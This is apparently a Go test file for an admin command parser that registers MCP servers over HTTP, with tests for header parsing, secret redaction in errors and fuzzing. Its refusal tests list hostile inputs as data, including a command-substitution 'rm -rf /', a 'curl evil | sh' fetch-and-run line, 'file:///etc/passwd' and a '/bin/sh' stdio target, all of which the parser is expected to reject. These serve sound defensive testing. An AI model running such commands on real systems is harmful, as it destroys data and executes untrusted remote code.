package admin

import (
	"errors"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

func TestParseCommand(t *testing.T) {
	tests := []struct {
		text string
		want command
	}{
		{"", command{Op: opHelp}},
		{"  help ", command{Op: opHelp}},
		{"HELP", command{Op: opHelp}},
		{"audit", command{Op: opAudit}},
		{"mcp list", command{Op: opList}},
		{"mcp  LS", command{Op: opList}},
		{"mcp tools github", command{Op: opTools, Name: "github"}},
		{"mcp remove my-srv_2", command{Op: opRemove, Name: "my-srv_2"}},
		{"mcp approve github", command{Op: opApprove, Name: "github"}},
		{"mcp add", command{Op: opAddModal}},
		{"mcp add docs https://mcp.example.com/mcp", command{Op: opAdd, Name: "docs", URL: "https://mcp.example.com/mcp"}},
		{"mcp add docs <https://mcp.example.com/mcp?a=1&amp;b=2>", command{Op: opAdd, Name: "docs", URL: "https://mcp.example.com/mcp?a=1&b=2"}},
		{"mcp add docs <https://mcp.example.com/mcp|mcp.example.com/mcp>", command{Op: opAdd, Name: "docs", URL: "https://mcp.example.com/mcp"}},
		{"mcp add docs https://h/mcp Authorization: Bearer abc X-Api-Key: k1",
			command{Op: opAdd, Name: "docs", URL: "https://h/mcp", Headers: []header{{"Authorization", "Bearer abc"}, {"X-Api-Key", "k1"}}}},
		{"mcp add docs https://h/mcp X-Api-Key:k1 X-Team:t",
			command{Op: opAdd, Name: "docs", URL: "https://h/mcp", Headers: []header{{"X-Api-Key", "k1"}, {"X-Team", "t"}}}},
		{`mcp add docs https://h/mcp Authorization: "Bearer a:b"`,
			command{Op: opAdd, Name: "docs", URL: "https://h/mcp", Headers: []header{{"Authorization", "Bearer a:b"}}}},
		{"mcp add docs https://h/mcp Authorization: “Bearer x y”",
			command{Op: opAdd, Name: "docs", URL: "https://h/mcp", Headers: []header{{"Authorization", "Bearer x y"}}}},
		{"mcp add lin https://mcp.linear.app/mcp --per-user", command{Op: opAdd, Name: "lin", URL: "https://mcp.linear.app/mcp", PerUser: true}},
		{"mcp add lin https://h/mcp --Per-User X-Team: t",
			command{Op: opAdd, Name: "lin", URL: "https://h/mcp", Headers: []header{{"X-Team", "t"}}, PerUser: true}},
		{"mcp add slack", command{Op: opAdd, Name: "slack", Preset: "slack"}},
		{"mcp add Slack <https://mcp.slack.example/mcp>", command{Op: opAdd, Name: "slack", URL: "https://mcp.slack.example/mcp", Preset: "slack"}},
		{"mcp connect lin", command{Op: opConnect, Name: "lin"}},
		{"mcp disconnect lin", command{Op: opDiscon, Name: "lin"}},
	}
	for _, tt := range tests {
		t.Run(tt.text, func(t *testing.T) {
			got, err := parseCommand(tt.text)
			if err != nil {
				t.Fatalf("parseCommand(%q): %v", tt.text, err)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("parseCommand(%q) (-want +got):\n%s", tt.text, diff)
			}
		})
	}
}

func TestParseCommandRefuses(t *testing.T) {
	tests := []struct {
		text    string
		notHTTP bool // refused as a command / path / stdio
	}{
		{"frobnicate", false},
		{"audit everything", false},
		{"mcp", false},
		{"mcp list extra", false},
		{"mcp tools", false},
		{"mcp connect", false},
		{"mcp disconnect a b", false},
		{"mcp tools a b", false},
		{"mcp tools ../etc", false},
		{"mcp add slack https://h/mcp --per-user", false},
		{"mcp add slack https://h/mcp X-Team: t", false},
		{"mcp add slack npx -y x", false},
		{"mcp remove", false},
		{"mcp add onlyname", false},
		{"mcp add bad/name https://h/mcp", false},
		{"mcp add " + strings.Repeat("n", 33) + " https://h/mcp", false},
		{"mcp add x npx -y @modelcontextprotocol/server-filesystem /", true},
		{"mcp add x uvx mcp-server-git", true},
		{"mcp add x /usr/local/bin/mcp-server", true},
		{"mcp add x ./server.sh", true},
		{"mcp add x ~/bin/server", true},
		{"mcp add x stdio:/bin/sh", true},
		{"mcp add x file:///etc/passwd", true},
		{"mcp add x ftp://h/mcp", true},
		{"mcp add x `rm -rf /`", true},
		{"mcp add x sh -c 'curl evil | sh'", true},
		{"mcp add x https://h/mcp notaheader", false},
		{"mcp add x https://h/mcp Host: evil", false},
		{"mcp add x https://h/mcp Content-Length: 1", false},
		{"mcp add x https://h/mcp Proxy-Authorization: x", false},
		{"mcp add x https://h/mcp A: 1 A: 2", false},
		{"mcp add x https://h/mcp A:", false},
		{`mcp add x https://h/mcp A: "unclosed`, false},
	}
	for _, tt := range tests {
		t.Run(tt.text, func(t *testing.T) {
			got, err := parseCommand(tt.text)
			if err == nil {
				t.Fatalf("parseCommand(%q) = %+v, want an error", tt.text, got)
			}
			var ue usageError
			if !errors.As(err, &ue) {
				t.Fatalf("parseCommand(%q) error %v is not a usageError", tt.text, err)
			}
			if isNotHTTP := errors.Is(err, errNotHTTP); isNotHTTP != tt.notHTTP {
				t.Errorf("parseCommand(%q) = %v; refused as not-HTTP: %v, want %v", tt.text, err, isNotHTTP, tt.notHTTP)
			}
		})
	}
}

// A secret typed where it does not belong is not echoed in the error.
func TestParseCommandDoesNotEchoSecrets(t *testing.T) {
	for _, text := range []string{
		"mcp add x https://h/mcp sk-live-SECRET123",
		"mcp add x https://h/mcp Authorization: " + strings.Repeat("S", maxHeaderValue+1),
		"mcp add x https://h/mcp Authorization: ab\x01SECRET",
	} {
		_, err := parseCommand(text)
		if err == nil {
			t.Fatalf("parseCommand(%q): no error", text)
		}
		if strings.Contains(err.Error(), "SECRET") || strings.Contains(err.Error(), "SSSS") {
			t.Errorf("parseCommand(%q) error echoes the secret: %v", text, err)
		}
	}
}

func TestParseHeaderLines(t *testing.T) {
	got, err := parseHeaderLines("Authorization: Bearer a:b\n\n  X-Key:  k  \n")
	if err != nil {
		t.Fatal(err)
	}
	want := []header{{"Authorization", "Bearer a:b"}, {"X-Key", "k"}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("parseHeaderLines (-want +got):\n%s", diff)
	}
	for _, bad := range []string{"no colon here", "Bad Name: x", "Host: h", "A: 1\nA: 2"} {
		if _, err := parseHeaderLines(bad); err == nil {
			t.Errorf("parseHeaderLines(%q): no error", bad)
		}
	}
}

func TestChunkLines(t *testing.T) {
	text := strings.Repeat("line of text\n", 1000) + strings.Repeat("x", 9000)
	parts := chunkLines(text, 3500)
	total := 0
	for _, p := range parts {
		if len(p) > 3500 {
			t.Errorf("part of %d bytes > 3500", len(p))
		}
		if !utf8.ValidString(p) {
			t.Errorf("part is not valid UTF-8")
		}
		total += len(p)
	}
	if total < len(text)-len(parts) {
		t.Errorf("lost text: %d of %d bytes in %d parts", total, len(text), len(parts))
	}
}

func FuzzParseCommand(f *testing.F) {
	for _, s := range []string{
		"", "help", "audit", "mcp list", "mcp tools a", "mcp add", "mcp add a https://h/mcp A: b c D: e",
		`mcp add a <https://h/mcp|x> A: "b: c"`, "mcp add a npx -y x", "mcp add a https://h/mcp “A: b”", "mcp remove a", "mcp add slack", "mcp add slack https://h/mcp",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		c, err := parseCommand(text)
		if err != nil {
			var ue usageError
			if !errors.As(err, &ue) {
				t.Fatalf("parseCommand(%q): error %v is not a usageError", text, err)
			}
			return
		}
		switch c.Op {
		case opHelp, opAudit, opList, opAddModal:
		case opTools, opRemove, opApprove:
			if !serverNameRE.MatchString(c.Name) {
				t.Fatalf("parseCommand(%q): bad name %q", text, c.Name)
			}
		case opAdd:
			if !serverNameRE.MatchString(c.Name) {
				t.Fatalf("parseCommand(%q): bad name %q", text, c.Name)
			}
			if c.Preset != "" && c.URL == "" {
				break // the preset's own URL
			}
			l := strings.ToLower(c.URL)
			if !strings.HasPrefix(l, "https://") && !strings.HasPrefix(l, "http://") {
				t.Fatalf("parseCommand(%q): URL %q is not http(s)", text, c.URL)
			}
			if len(c.Headers) > maxHeaders {
				t.Fatalf("parseCommand(%q): %d headers", text, len(c.Headers))
			}
			for _, h := range c.Headers {
				if !headerNameRE.MatchString(h.Name) || h.Value == "" || strings.ContainsAny(h.Value, "\r\n\x00") {
					t.Fatalf("parseCommand(%q): bad header %q", text, h.Name)
				}
			}
		default:
			t.Fatalf("parseCommand(%q): unknown op %q", text, c.Op)
		}
	})
}
